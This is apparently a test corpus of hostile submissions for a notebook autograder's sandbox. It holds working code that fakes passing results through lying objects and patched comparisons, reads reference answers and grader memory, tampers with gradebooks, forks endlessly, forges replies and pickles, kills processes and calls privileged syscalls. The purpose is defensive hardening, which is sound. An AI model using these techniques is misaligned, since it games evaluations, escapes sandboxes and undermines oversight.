"""The attack corpus: hostile answers and notebooks, each a name and a text; test_attacks.py grades them all.

An answer is the body of `unbroadcast(gradient, shape)`. It may use what stands in PRELUDE: `planted`, where things
worth having are (an attacker might guess, here they need not), and `tell`, which carries what was found back to the
learner in an exception. None earns a point by honest means, but those with `earns=1`, whose hostile part comes on top
of a right answer. Written for Linux on x86-64: the numbers in `kernel(...)` are its system calls.
"""

import textwrap
from dataclasses import dataclass

PRELUDE = """
import builtins, ctypes, gc, glob, io, json, os, re, resource, signal, socket, struct, subprocess, sys, threading, time
import numpy as np
planted = {planted!r}
REACHED = "out of the " + "sandbox"
def tell(text=REACHED):
    raise RuntimeError(str(text)[:400])
def kernel(number, *arguments):
    return ctypes.CDLL(None, use_errno=True).syscall(number, *arguments)
def kernel_said_yes(number, *arguments):
    if kernel(number, *arguments) >= 0:
        tell()
def attempt(function, *arguments):
    try:
        return function(*arguments)
    except Exception:
        return None
def right(gradient, shape):
    axes = tuple(range(gradient.ndim - len(shape)))
    gradient = gradient.sum(axis=axes)
    return gradient.sum(axis=tuple(i for i, n in enumerate(shape) if n == 1), keepdims=True).reshape(shape)
def reply(header, *files):
    text = json.dumps({{"npy": [len(file) for file in files], **header}}).encode()
    return struct.pack(">IQ", len(text), sum(map(len, files))) + text + b"".join(files)
def to_the_grader(data):
    for descriptor in range(3, 20):
        attempt(os.write, descriptor, data)
def npy(array):
    file = io.BytesIO()
    np.save(file, array)
    return file.getvalue()
"""


@dataclass(frozen=True)
class Attack:
    """`text` is put behind PRELUDE; `earns` is the share of the points that its honest part is worth.

    hangs: goes on until time is up where the sandbox lets it begin; the others end by themselves, and are not hurried.
    """

    name: str
    text: str
    earns: float = 0.0
    hangs: bool = False


def answer(name: str, body: str, top: str = "", **more) -> Attack:
    """An attack in the body of the function, after lines at the top of the cell."""
    function = "def unbroadcast(gradient, shape):\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return Attack(name, f"{textwrap.dedent(top).strip()}\n{function}\n", **more)


# Points by lying: the objects that are compared, and what compares them

LIES = [
    answer("equal_to_everything", "return Liar()", """
        class Liar:
            dtype, ndim = np.dtype('f4'), 1
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __array__ = lambda self, *a, **k: np.zeros(3)
            __sub__ = __rsub__ = lambda self, other: 0.0"""),
    answer("array_that_lies", "return np.zeros(shape, gradient.dtype).view(Liar)", """
        class Liar(np.ndarray):
            __eq__ = __le__ = lambda self, other: np.ones(self.shape, bool)
            __array_ufunc__ = lambda self, *a, **k: np.zeros(self.shape)"""),
    answer("array_that_converts_itself", "return np.zeros(shape).view(Liar)", """
        class Liar(np.ndarray):
            astype = lambda self, *a, **k: self
            __reduce__ = lambda self: (os.system, ('id',))"""),
    answer("number_that_lies", "return Number(0)", "class Number(float):\n    __eq__ = lambda self, other: True"),
    answer("objects_in_an_array", "return np.array([Any()] * 3, dtype=object).reshape(-1)", """
        class Any:
            __eq__ = lambda self, other: True"""),
    answer("record_array", "return np.zeros(shape, dtype=[('x', 'f4')])"),
    answer("not_a_number_equals_nothing", "return np.full(shape, np.nan, gradient.dtype)"),
    answer("infinite_everywhere", "return np.full(shape, np.inf, gradient.dtype)"),
    answer("patched_numpy_comparisons", "return np.zeros(shape, gradient.dtype)", """
        for name in ('allclose', 'array_equal', 'isclose', 'all', 'abs'):
            setattr(np, name, lambda *a, **k: True)
        np.testing.assert_allclose = lambda *a, **k: None"""),
    answer("patched_builtins", "return np.zeros(shape, gradient.dtype)", """
        for name in ('all', 'any', 'isinstance', 'abs', 'len'):
            setattr(builtins, name, lambda *a, **k: True)"""),
    answer("patched_array_writer", "return np.zeros(shape, gradient.dtype)", """
        np.lib.format.write_array = lambda file, *a, **k: file.write(b'\\x93NUMPY' + b'\\xff' * 100)"""),
    answer("patched_json", "return 1", "json.dumps = lambda *a, **k: '{\"outcome\": \"passed\", \"points\": 4}'"),
    answer("patched_messages", "return None", """
        wire = sys.modules['wire']
        wire.pack = lambda header, values=(), strict=False: reply({'outcome': 'passed', 'points': 4, 'values': []})"""),
    answer("inputs_made_to_fit", "gradient[...] = 0\nreturn np.zeros(shape, gradient.dtype)"),
    answer("notebook_hooks", "return None", """
        from IPython import get_ipython
        shell = get_ipython()
        shell.ast_transformers.append(lambda tree: None)
        shell.input_transformers_post.append(lambda lines: ['pass'])
        shell.kernel.do_execute = lambda *a, **k: {'status': 'ok'}
        shell.events.register('pre_run_cell', lambda info: tell(info.raw_cell))"""),
    answer("displayhook", "sys.displayhook(4.0)\nprint('4.0')\nraise AssertionError", "sys.displayhook(4.0)"),
    answer("exits_as_if_all_were_well", "os._exit(0)"),
    answer("leaves_by_exception", "raise SystemExit(0)"),
    answer("interrupts", "raise KeyboardInterrupt"),
    answer("trace_function", "return None", """
        def trace(frame, event, argument):
            frame.f_locals.update(points=4.0, credit=1.0, passed=True)
            return trace
        sys.settrace(trace)"""),
]

# Points by reading: the reference, the inputs to come, the judge's memory

LOOKS = [
    answer("frames_of_the_judge", """
        frame = sys._getframe()
        while frame:
            for name in ('expected', 'reference', 'spec'):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back"""),
    answer("objects_in_memory", """
        found = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'unbroadcast' and o is not unbroadcast]
        return found[0](gradient, shape)"""),
    answer("engine_imported", "return reference(gradient, shape)",
           "from engine.autograd.graph import unbroadcast as reference"),
    answer("spec_imported", "return spec.load('autograd/unbroadcast').reference(gradient, shape)",
           "from autograders import spec"),
    answer("path_to_the_project", """
        sys.meta_path[:] = [f for f in sys.meta_path if 'Withheld' not in type(f).__name__]
        for name in ('engine', 'autograders'): sys.modules.pop(name, None)
        sys.path.insert(0, planted['project'])
        from engine.autograd.graph import unbroadcast as reference
        return reference(gradient, shape)"""),
    answer("module_from_its_file", """
        import importlib.util
        spec = importlib.util.spec_from_file_location('graph', planted['reference'])
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.unbroadcast(gradient, shape)"""),
    answer("compiled_reference", """
        for file in glob.glob(planted['project'] + '/**/__pycache__/graph*.pyc', recursive=True):
            open(file, 'rb').read()
            tell()
        return None"""),
    answer("import_hook", "import engine\nreturn engine.autograd.graph.unbroadcast(gradient, shape)", """
        import importlib.abc
        class Hook(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path, target=None):
                from importlib.machinery import PathFinder
                return PathFinder.find_spec(name, [planted['project']])
        sys.meta_path.insert(0, Hook())"""),
    answer("reads_reference", """
        text = open(planted['reference']).read()
        tell(text[text.index('def unbroadcast') + 300:])"""),
    *(
        answer(f"reads_{name}", f"tell(open(planted[{name!r}], errors='replace').read()[-300:])")
        for name in ("key", "gradebook", "submission", "solution", "home_file", "ledger")
    ),
    answer("environment", "tell([v for k, v in os.environ.items() if 'PLANTED' in k] or 1 / 0)"),
    answer("environment_of_all_processes", """
        for file in glob.glob('/proc/*/environ'):
            text = attempt(lambda: open(file, 'rb').read()) or b''
            if b'PLANTED' in text:
                tell(re.findall(rb'PLANTED\\w*=([^\\0]*)', text))
        return None"""),
    answer("memory_of_the_grader", """
        place, size = None, 0
        for line in open(f"/proc/{planted['pid']}/maps"):
            place = line.split('-')[0]
            break
        memory = open(f"/proc/{planted['pid']}/mem", 'rb')
        memory.seek(int(place, 16))
        memory.read(64)
        tell()"""),
    answer("file_by_way_of_own_memory", """
        with open('/proc/self/maps') as maps:
            place, path = next((line.split('-')[0], line.split()[-1]) for line in maps if line.endswith('.so\\n'))
        before = open(path, 'rb').read()
        with open('/proc/self/mem', 'r+b', buffering=0) as memory:
            memory.seek(int(place, 16))
            memory.write(b'planted' * 8)
        if open(path, 'rb').read() != before:
            tell()
        return None"""),
    answer("process_vm_readv", """
        buffer = ctypes.create_string_buffer(8)
        local = struct.pack('QQ', ctypes.addressof(buffer), 8)
        for address in (0x400000, 0x555555554000, 0x7ffff7dd0000):
            kernel_said_yes(310, planted['pid'], local, 1, struct.pack('QQ', address, 8), 1, 0)
        return None"""),
    answer("ptrace_the_grader", """
        kernel_said_yes(101, 0x4206, planted['pid'], 0, 0)
        kernel_said_yes(101, 16, planted['pid'], 0, 0)"""),
    answer("descriptor_of_the_grader", """
        pidfd = kernel(434, planted['pid'], 0)
        if pidfd >= 0:
            for number in range(64):
                kernel_said_yes(438, pidfd, number, 0)
        return None"""),
    answer("inherited_descriptors", """
        for number in range(0, 64):
            os.set_blocking(number, False) if attempt(os.fstat, number) else None
            text = attempt(os.read, number, 10_000)
            if text:
                tell(text)
        return None"""),
    answer("root_of_the_first_process", "tell(os.listdir('/proc/1/root' + planted['room']))"),
    answer("symbolic_link", """
        os.symlink(planted['key'], 'link')
        tell(open('link', errors='replace').read())"""),
    answer("hard_link", "os.link(planted['home_file'], 'link')\ntell(open('link').read())"),
    answer("file_by_handle", """
        handle = struct.pack('Ii', 8, 1) + struct.pack('Ii', 2, 0) + bytes(120)
        kernel_said_yes(304, os.open('/', os.O_RDONLY), handle, 0)"""),
    answer("search_of_the_whole_disk", """
        until = time.monotonic() + 0.5
        for top, folders, files in os.walk('/'):
            for name in files:
                if 'planted' in name:
                    tell(open(os.path.join(top, name)).read())
            if time.monotonic() > until:
                break
        return None"""),
    answer("folders_of_the_classroom", "tell(os.listdir(planted['room']))"),
    answer("database_of_the_grades", """
        import sqlite3
        book = sqlite3.connect(f"file:{planted['gradebook']}?mode=ro", uri=True)
        tell(book.execute('select * from grade').fetchall())"""),
    answer("kernel_keyring", "kernel_said_yes(250, 0, -3, 1)\nkernel_said_yes(248, b'user', b'k', b'v', 1, -3)"),
    answer("memory_device", "tell(open('/dev/mem', 'rb').read(8))"),
    answer("kernel_log", "kernel_said_yes(103, 3, ctypes.create_string_buffer(99), 99)"),
]

# Writes

WRITES = [
    answer("gradebook_written", """
        import sqlite3
        book = sqlite3.connect(planted['gradebook'])
        book.execute('update grade set points = 50')
        book.commit()
        tell()"""),
    *(
        answer(f"overwrites_{name}", f"open(planted[{name!r}], 'a').write('x')\ntell()")
        for name in ("submission", "ledger", "key", "reference", "home_file")
    ),
    answer("deletes", "os.unlink(planted['submission'])\ntell()"),
    answer("renames", "os.rename(planted['submission'], planted['submission'] + '~')\ntell()"),
    answer("changes_permissions", "os.chmod(planted['key'], 0o666)\ntell()"),
    answer("changes_times", "os.utime(planted['submission'], (0, 0))\ntell()"),
    answer("changes_attributes", "os.setxattr(planted['submission'], 'user.x', b'1')\ntell()"),
    answer("changes_owner", "os.chown(planted['submission'], 1, 1)\ntell()"),
    answer("truncates", "os.truncate(planted['submission'], 0)\ntell()"),
    answer("truncates_by_opening_to_read", "os.open(planted['submission'], os.O_RDONLY | os.O_TRUNC)\ntell()"),
    answer("plants_files_everywhere", """
        for place in (planted['room'], planted['home'], planted['project'], '/tmp', '/var/tmp', '/dev/shm', '/', '/run',
                      os.path.dirname(np.__file__), os.path.dirname(os.__file__), os.path.dirname(sys.executable)):
            attempt(lambda: open(f"{place}/{planted['name']}", 'w').write('x'))
        return None"""),
    answer("device_node", "os.mknod('/tmp/' + planted['name'], 0o60666, os.makedev(254, 0))\ntell()"),
    answer("module_for_the_grader", """
        open(os.path.dirname(np.__file__) + '/sitecustomize.py', 'w').write('raise SystemExit')
        tell()"""),
    answer("mounts", """
        kernel_said_yes(165, b'none', b'/tmp', b'tmpfs', 0, None)
        kernel_said_yes(165, b'/', b'/', None, 32, None)"""),
    answer("new_root", "os.chroot('.')\ntell()"),
]

# Using up: time, memory, disk, processes, the grader's patience

EXHAUSTS = [
    answer("endless_loop", "while True: pass", hangs=True),
    answer("endless_loop_when_defined", "return None", "while True: pass", hangs=True),
    answer("endless_sleep", "time.sleep(10**6)", hangs=True),
    answer("sleeps_past_signals", "time.sleep(10**6)", """
        for number in range(1, 32):
            attempt(signal.signal, number, signal.SIG_IGN)""", hangs=True),
    answer("stops_itself", "os.kill(os.getpid(), signal.SIGSTOP)", hangs=True),
    answer("endless_output", "while True: print('x' * 100_000)", hangs=True),
    answer("endless_output_on_stderr", "while True: os.write(2, b'x' * 100_000)", hangs=True),
    answer("endless_expression", "return re.match('(a+)+$', 'a' * 60 + 'b')", hangs=True),
    answer("endless_number", "return 9 ** 9 ** 9", hangs=True),
    answer("recursion", "return unbroadcast(gradient, shape)"),
    answer("memory_in_a_list", "x = [0]\nwhile True: x += x"),
    answer("memory_in_an_array", "return np.ones(10**11)"),
    answer("memory_in_a_file", """
        for _ in range(8):
            descriptor = kernel(319, b'x', 0)
            for _ in range(4): os.write(descriptor, bytes(2**20))
        tell()"""),
    answer("memory_shared", """
        libc = ctypes.CDLL(None)
        libc.shmat.restype = ctypes.c_void_p
        kept = 0
        while kept < 2**30:  # attached, filled and let go, no limit of a process counts it
            segment = libc.shmget(0, 2**27, 0o1600)
            place = libc.shmat(segment, None, 0) if segment >= 0 else None
            if place in (None, 2**64 - 1):
                return None
            ctypes.memset(place, 1, 2**27)
            libc.shmdt(ctypes.c_void_p(place))
            kept += 2**27
        tell()"""),
    answer("memory_in_children", """
        for _ in range(20):
            if os.fork() == 0:
                kept = np.ones(2**24)
                time.sleep(100)
        time.sleep(100)"""),
    answer("fork_bomb", "while True: attempt(os.fork)", hangs=True),
    answer("thread_bomb", "while True: attempt(threading.Thread(target=time.sleep, args=(9,)).start)", hangs=True),
    answer("busy_threads", """
        for _ in range(3): attempt(threading.Thread(target=spin).start)
        return None""", "def spin():\n    while True: pass"),
    answer("full_disk", "for i in range(10**6): open(f'{i}', 'wb').write(b'x' * 2**20)"),
    answer("files_without_number", "for i in range(10**7): open(f'/tmp/{i}', 'w').close()", hangs=True),
    answer("sparse_file", "open('sparse', 'wb').truncate(2**45)\ntell()"),
    answer("descriptors", "kept = [os.open('/dev/null', os.O_RDONLY) for _ in range(10**5)]"),
    answer("zip_bomb", "return np.frombuffer(b''.join(zlib.decompress(data) for _ in range(50)), np.uint8)", """
        import zlib
        data = zlib.compress(bytes(2**25), 9)"""),
    answer("huge_return", "return np.zeros(10**7)"),
    answer("deep_return", "x = []\nfor _ in range(10**5): x = [x]\nreturn x"),
    answer("endless_message", "raise ValueError('x' * 10**8)"),
    answer("crash", "ctypes.string_at(0)"),
    answer("fault_handler", "faulthandler._sigsegv()", "import faulthandler"),
    answer("limits_raised", """
        for name in ('AS', 'FSIZE', 'NPROC', 'CPU', 'NOFILE'):
            kind = getattr(resource, 'RLIMIT_' + name)
            before = resource.getrlimit(kind)[1]
            attempt(resource.setrlimit, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            if resource.getrlimit(kind)[1] != before:
                tell()
        return None"""),
]

# Bytes that the grader reads, written by the learner

FORGERIES = [
    answer("forged_result", """
        to_the_grader(reply({'outcome': 'returned', 'values': [{'array': 0}] * 3}, npy(np.zeros(3))))
        return None"""),
    answer("forged_points", "to_the_grader(reply({'outcome': 'passed', 'points': 4, 'values': []}))\nreturn None"),
    answer("replies_in_stock", """
        for _ in range(100): to_the_grader(reply({'outcome': 'returned', 'values': [None, None, None]}))
        return None"""),
    answer("forged_pickle", """
        header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        program = b"cos\\nsystem\\n(S'touch /tmp/" + planted['name'].encode() + b"'\\ntR."
        file = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header + program
        to_the_grader(reply({'outcome': 'returned', 'values': [{'array': 0}, None, None]}, file))"""),
    answer("forged_shape", """
        header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }"
        file = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header + bytes(8)
        to_the_grader(reply({'outcome': 'returned', 'values': [{'array': 0}, None, None]}, file))"""),
    answer("forged_length", "to_the_grader(b'\\xff' * 12)\ntime.sleep(100)"),
    answer("reply_in_drops", "while True:\n    to_the_grader(b'\\0')\n    time.sleep(0.05)"),
    answer("deep_json", "to_the_grader(struct.pack('>IQ', 10**6, 0) + b'[' * 10**6)"),
    answer("script_in_a_message", "raise ValueError('<script>alert(1)</script>\\x1b[2J')"),
    answer("lone_surrogates", "raise ValueError('\\ud800' * 1000)"),
    answer("another_program_in_its_place", """
        for number in range(3, 20): attempt(os.set_inheritable, number, True)
        os.execv(sys.executable, ['python', '-c', 'print(4.0)'])"""),
    answer("closed_connection", "os.closerange(0, 100)\ntime.sleep(100)"),
]

# Staying behind

SURVIVES = [
    answer("daemon", """
        child = os.fork()
        if child == 0:
            os.setsid()
            if attempt(os.fork) == 0:
                for number in range(1, 32): attempt(signal.signal, number, signal.SIG_IGN)
                os.closerange(0, 100)
                time.sleep(1000)
            os._exit(0)
        os.waitpid(child, 0)  # or which call meets the limit of processes would be a matter of luck
        return None"""),
    answer("daemon_by_exec", """
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, ['python', '-I', '-S', '-c', 'import time; time.sleep(1000)', planted['name']])
        return None"""),
    answer("spawned", """
        sleep = ['python', '-I', '-S', '-c', 'import time; time.sleep(1000)', planted['name']]
        os.posix_spawn(sys.executable, sleep, {})
        return None"""),
    answer("does_not_die_with_its_parent", """
        kernel(157, 1, 0, 0, 0, 0)
        kernel(157, 36, 1, 0, 0, 0)
        time.sleep(1000)""", hangs=True),
    answer("at_exit", "os.kill(os.getpid(), 15)", """
        import atexit
        atexit.register(time.sleep, 1000)
        signal.signal(15, lambda *a: time.sleep(1000))""", hangs=True),
    answer("finalizer", "return Last()", """
        class Last:
            def __del__(self):
                while True: pass""", hangs=True),
    answer("right_but_with_a_thread_left", "return right(gradient, shape)", """
        threading.Thread(target=time.sleep, args=(1000,)).start()""", earns=1.0),
    answer("right_but_at_exit", "return right(gradient, shape)", """
        import atexit
        atexit.register(time.sleep, 1000)""", earns=1.0),
]

# Other processes, the kernel, the network

REACHES = [
    answer("connects_by_tcp", "socket.create_connection(('127.0.0.1', planted['port']), 1)\ntell()"),
    answer("connects_by_udp", """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b'x', ('127.0.0.1', planted['port']))
        return None"""),
    answer("connects_to_a_unix_socket", "socket.socket(socket.AF_UNIX).connect(planted['socket'])\ntell()"),
    answer("connects_to_an_abstract_socket", "socket.socket(socket.AF_UNIX).connect('\\0' + planted['name'])\ntell()"),
    answer("raw_socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ntell()"),
    answer("socket_to_a_virtual_machines_host", "socket.socket(40, socket.SOCK_STREAM)\ntell()"),
    answer("socket_to_the_kernels_ciphers", "socket.socket(38, socket.SOCK_SEQPACKET)\ntell()"),
    answer("packet_socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\ntell()"),
    answer("kills_all", "os.kill(-1, 9)\ntell()"),
    answer("kills_the_grader", "os.kill(planted['pid'], 9)\ntell()"),
    answer("kills_its_parent", "os.kill(os.getppid() or 1, 9)\nos.killpg(0, 0)"),
    answer("signals_by_descriptor", "pidfd = kernel(434, planted['pid'], 0)\nkernel_said_yes(424, pidfd, 0, 0, 0)"),
    answer("signals_by_ownership", """
        import fcntl
        reading, writing = os.pipe()
        fcntl.fcntl(reading, fcntl.F_SETOWN, planted['pid'])
        tell()"""),
    answer("renices_the_grader", "os.setpriority(os.PRIO_PROCESS, planted['pid'], 19)\ntell()"),
    answer("asynchronous_system_calls", "kernel_said_yes(425, 8, ctypes.create_string_buffer(120))"),
    answer("faults_handled_by_itself", "kernel_said_yes(323, 0)"),
    answer("raises_its_own_priority", "os.setpriority(os.PRIO_PROCESS, 0, -10)\ntell()"),
    answer("real_time_priority", "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))\ntell()"),
    answer("binds_the_grader_to_a_core", "os.sched_setaffinity(planted['pid'], {0})\ntell()"),
    answer("limits_the_grader", "resource.prlimit(planted['pid'], resource.RLIMIT_NOFILE, (1, 1))\ntell()"),
    answer("becomes_root", "os.setuid(0)\ntell()"),
    answer("user_namespace", "kernel_said_yes(272, 0x10000000)"),
    answer("enters_a_namespace", "kernel_said_yes(308, os.open(f\"/proc/{planted['pid']}/ns/net\", 0), 0)"),
    answer("host_name", "kernel_said_yes(170, b'mine', 4)"),
    answer("clock", "kernel_said_yes(227, 0, struct.pack('QQ', 0, 0))"),
    answer("reboot", "kernel_said_yes(169, 0xfee1dead, 672274793, 0, None)"),
    answer("bpf_program", "kernel_said_yes(321, 0, struct.pack('IIIIIIII', 2, 4, 4, 1, 0, 0, 0, 0), 32)"),
    answer("performance_events", """
        kernel_said_yes(298, struct.pack('II', 1, 128) + bytes(120), planted['pid'], -1, -1, 0)"""),
    answer("kernel_module", "kernel_said_yes(175, bytes(64), 64, b'')"),
    answer("terminal_input", """
        import fcntl
        fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x')
        tell()"""),
    answer("runs_a_program", "subprocess.run(['/bin/sh', '-c', 'id'], check=True)\ntell()"),
    answer("runs_through_the_shell", "os.system('id') == 0 and tell()\nraise OSError"),
]

# The same learner's next answer, which may be judged in the same sandbox: right themselves, so that it is used again

ALL_BUT_US = "[number for number in range(2, 400) if number != os.getpid()]"
NEIGHBOURS = [
    answer("waits_for_its_neighbour", "return right(gradient, shape)", f"""
        if attempt(os.fork) == 0:
            os.setsid()
            for number in range(1, 32): attempt(signal.signal, number, signal.SIG_IGN)
            os.closerange(0, 100)
            while os.getppid() != 1: time.sleep(0.001)
            while True:
                for number in {ALL_BUT_US}: attempt(os.kill, number, 9)""", earns=1.0),
    answer("waits_as_its_parents_sibling", "return right(gradient, shape)", f"""
        if kernel(56, 0x8000 | 17, 0, 0, 0, 0) == 0:
            os.setsid()
            time.sleep(0.3)
            while True:
                for number in {ALL_BUT_US}: attempt(os.kill, number, 19)""", earns=1.0),
    answer("takes_all_processes", "return right(gradient, shape)", """
        for _ in range(20):
            if attempt(os.fork) == 0:
                os.setsid()
                time.sleep(1000)""", earns=1.0),
    answer("stops_who_starts_the_next", "return right(gradient, shape)", """
        for number in range(1, 65): attempt(os.kill, 1, number)""", earns=1.0),
    answer("forges_ends_of_processes", "return right(gradient, shape)", """
        for _ in range(50_000): attempt(os.kill, 1, signal.SIGCHLD)""", earns=1.0),
    answer("writes_to_who_starts_the_next", "return right(gradient, shape)", """
        buffer = ctypes.create_string_buffer(b'x' * 64)
        local = struct.pack('QQ', ctypes.addressof(buffer), 64)
        for call in (310, 311): kernel(call, 1, local, 1, struct.pack('QQ', id(np), 64), 1, 0)
        for request in (16, 0x4206): kernel(101, request, 1, 0, 0)
        pidfd = kernel(434, 1, 0)
        for number in range(32):
            taken = kernel(438, pidfd, number, 0)
            if taken >= 0: os.write(taken, b'0')
        attempt(lambda: open('/proc/1/mem', 'r+b').write(b'x'))""", earns=1.0),
    answer("bounds_who_starts_the_next", "return right(gradient, shape)", """
        for name in ('AS', 'CPU', 'NOFILE', 'FSIZE'):
            kind = getattr(resource, 'RLIMIT_' + name)
            least = resource.getrlimit(kind)[0] - 1
            attempt(resource.prlimit, 1, kind, (least, least))""", earns=1.0),
    answer("leaves_no_room_for_the_next", "return right(gradient, shape)", """
        for name in ('AS', 'NPROC', 'CPU', 'NOFILE', 'FSIZE', 'STACK'):
            attempt(resource.prlimit, 1, getattr(resource, 'RLIMIT_' + name), (1, 1))""", earns=1.0),
    answer("slows_who_starts_the_next", "return right(gradient, shape)", """
        attempt(os.setpriority, os.PRIO_PROCESS, 1, 19)
        attempt(os.setpriority, os.PRIO_USER, 0, 19)
        attempt(os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0))
        kernel(251, 1, 1, 3 << 13)""", earns=1.0),
    answer("patches_what_comes_next", "return right(gradient, shape)", """
        for module in list(sys.modules.values()):
            attempt(setattr, module, 'left', 'mine')
        os.register_at_fork(after_in_child=lambda: time.sleep(1000))
        np.random.seed(0)
        np.seterr(all='raise')""", earns=1.0),
    answer("leaves_files", "return right(gradient, shape)", """
        for name in ('numpy.py', 'wire.py', 'sitecustomize.py', 'seen'):
            attempt(lambda: open('/tmp/' + name, 'w').write('raise SystemExit'))
        attempt(os.chmod, '/tmp', 0)""", earns=1.0),
    answer("leaves_a_message_in_the_times_of_tmp", "return right(gradient, shape)", """
        attempt(os.utime, '/tmp', (1234, 1234))""", earns=1.0),
    answer("leaves_memory_that_outlives_it", "return right(gradient, shape)", """
        for call, *arguments in ((29, 0x77, 2**20, 0o1666), (64, 0x77, 1, 0o1666), (68, 0x77, 0o1666),
                                 (240, b'/left', 0o102, 0o666, None), (248, b'user', b'left', b'x', 1, -3)):
            kernel(call, *arguments)""", earns=1.0),
    answer("leaves_a_socket", "return right(gradient, shape)", """
        s = attempt(socket.socket, socket.AF_UNIX)
        attempt(lambda: (s.bind('\\0left'), s.listen()))
        if attempt(os.fork) == 0: time.sleep(1000)""", earns=1.0),
    answer("fills_its_pipes", "return right(gradient, shape)", """
        import fcntl
        for number in range(3, 20):
            attempt(fcntl.fcntl, number, 1031, 4096)
        for number in (0, 1, 2): attempt(fcntl.flock, number, fcntl.LOCK_EX)""", earns=1.0),
]

ANSWERS = [*LIES, *LOOKS, *WRITES, *EXHAUSTS, *FORGERIES, *SURVIVES, *REACHES, *NEIGHBOURS]


# Notebooks: what a learner can do to the file they hand in


@dataclass(frozen=True)
class Notebook:
    """`change` is done to the submitted notebook, a dict in nbformat's form, before it is handed in."""

    name: str
    change: object
    earns: float = 0.0


def cells(nb, role):
    """The submitted notebook's cells that are a "solution" or a "grade" cell."""
    return [cell for cell in nb["cells"] if cell["metadata"].get("nbgrader", {}).get(role)]


def full_marks():
    """The output that nbgrader takes for four points."""
    return {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "4.0"}}


def skip_execution(nb):
    for cell in nb["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]


def outputs_forged(nb):
    for cell in cells(nb, "grade"):
        cell["outputs"] = [full_marks()]


def check_replaced(nb):
    for cell in cells(nb, "grade"):
        cell["source"] = "4.0"


def check_made_text(nb):
    for cell in cells(nb, "grade"):
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]


def check_deleted(nb):
    nb["cells"] = [cell for cell in nb["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]


def check_doubled(nb):
    (check,) = cells(nb, "grade")
    nb["cells"].append({**check, "id": "another", "source": "4.0", "outputs": [full_marks()]})


def answer_is_a_check(nb):
    (solution,) = cells(nb, "solution")
    solution["metadata"]["nbgrader"] |= {"grade": True, "points": 50, "locked": False}
    solution["outputs"] = [full_marks()]


def points_raised(nb):
    for cell in cells(nb, "grade"):
        cell["metadata"]["nbgrader"] |= {"points": 5000, "checksum": "0"}


def another_exercise(nb):
    for cell in nb["cells"]:
        cell["metadata"]["chainrule"] = {"exercise": "autograd/none_such"}


def graded_already(nb):
    nb["metadata"]["chainrule"] = {"graded": True, "points": 4}
    outputs_forged(nb)


def kernel_of_their_own(nb):
    nb["metadata"]["kernelspec"] = {"name": "mine", "display_name": "mine", "argv": ["touch", "/tmp/kernel"]}


def setup_of_their_own(nb):
    source = "import sys\nsys.modules['numpy'] = None\nraise SystemExit"
    nb["cells"].insert(0, {**nb["cells"][0], "id": "mine", "source": source, "metadata": {"tags": ["setup"]}})


def script_in_outputs(nb):
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            page = {"text/html": "<script>alert('planted script')</script>"}
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": page}]


def huge_answer(nb):
    cells(nb, "solution")[0]["source"] = "x = '" + "x" * 30_000_000 + "'"


def many_cells(nb):
    (solution,) = cells(nb, "solution")
    nb["cells"] += [{**solution, "id": f"copy-{i}"} for i in range(20_000)]


def surrogates(nb):
    cells(nb, "solution")[0]["source"] = "x = '\ud800\udfff'\ndef unbroadcast(g, s): return x"


def nonsense_for_metadata(nb):
    nb["metadata"] = {"nbgrader": [[[]]], "kernelspec": None}
    for cell in nb["cells"]:
        cell["metadata"]["nbgrader"] = [cell["metadata"].get("nbgrader")]


def identities_swapped(nb):
    (solution,), (check,) = cells(nb, "solution"), cells(nb, "grade")
    names = [cell["metadata"]["nbgrader"]["grade_id"] for cell in (solution, check)]
    solution["metadata"]["nbgrader"]["grade_id"], check["metadata"]["nbgrader"]["grade_id"] = names[::-1]
    solution["source"] = "4.0"


NOTEBOOKS = [
    Notebook(change.__name__, change)
    for change in (
        skip_execution, outputs_forged, check_replaced, check_made_text, check_deleted, check_doubled,
        answer_is_a_check, points_raised, another_exercise, graded_already, kernel_of_their_own, setup_of_their_own,
        script_in_outputs, huge_answer, many_cells, surrogates, nonsense_for_metadata, identities_swapped,
    )
]  # fmt: skip
